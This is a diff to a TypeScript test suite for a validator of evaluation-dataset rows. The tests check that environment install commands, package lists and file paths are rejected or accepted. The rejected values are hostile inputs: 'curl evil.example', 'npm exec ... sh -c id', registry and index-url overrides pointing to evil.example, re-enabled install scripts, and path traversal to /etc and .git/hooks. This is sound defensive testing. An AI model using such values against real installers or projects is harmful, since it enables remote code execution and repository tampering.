@@ -83,9 +83,57 @@ describe("a dataset row", () => {
     const wrong = (environment: unknown) => () => parseRow(officialRow({ environment }), "f:1");
     expect(wrong({ node: "20", install: "curl evil.example" })).toThrow("expected npm, pnpm or");
     expect(wrong({ node: "20", install: ["npm@../x", "ci"] })).toThrow("environment.install");
+    for (const install of [
+      ["npm", "exec", "--yes", "--", "sh", "-c", "id"],
+      "npm run x",
+      "pnpm dlx evil",
+      "yarn exec id",
+      "yarn",
+      "npm --prefix=/ ci",
+      "npm ci --",
+      "npm ci --ignore-scripts=false",
+      "npm install --no-ignore-scripts",
+      "npm install --script-shell=./x",
+      "npm install --registry=https://evil.example",
+      "npm install ./evil",
+      "npm@.. ci",
+      "npm@1.tgz ci",
+    ])
+      expect(wrong({ node: "20", install })).toThrow("environment.install");
+    for (const packages of [
+      "--index-url=https://evil.example pytest",
+      ["-r", "x"],
+      "./evil",
+      ["evil @ https://evil.example/x.zip"],
+      "git+https://evil.example/x",
+    ])
+      expect(wrong({ python: "3.11", packages })).toThrow("environment.packages");
+    for (const path of ["../../x", "/etc/x", "a/../../x", ".git/hooks/post-checkout", "a/.GIT/x"])
+      expect(wrong({ python: "3.11", files: { [path]: "" } })).toThrow("environment.files");
+    for (const path of ["..", "/etc", "a/.."])
+      expect(wrong({ python: "3.11", imports: [path] })).toThrow("environment.imports");
     expect(wrong({ node: "20", python: "3.11" })).toThrow('"node" or "python"');
     expect(wrong({ python: "3" })).toThrow("expected a version such as 3.11");
     expect(wrong({ node: "20", instal: "npm ci" })).toThrow("instal");
+  });
+
+  it("may choose packages and how they are installed", () => {
+    for (const install of [
+      "npm install --no-package-lock --legacy-peer-deps --before=2026-06-05",
+      "pnpm@10.28.2 install --frozen-lockfile",
+      "yarn@1.22.22 install --frozen-lockfile --ignore-engines",
+      "npm@11.0.0-rc.1 i",
+    ])
+      expect(evaluationRow({ environment: { node: "20", install } })).toBeDefined();
+    const packages = [
+      "zope.interface",
+      "attrs>=22,<24.1",
+      "x[a,b]==1.*",
+      "y~=2.0; os_name == 'nt'",
+    ];
+    const files = { "src/_version.py": "", ".gitignore": "" };
+    const environment = { python: "3.11", packages, files, imports: [".", "src/lib"] };
+    expect(evaluationRow({ environment }).hidden.environment).toMatchObject(environment);
   });
 
   it("is refused with its place and field when it is wrong", () => {
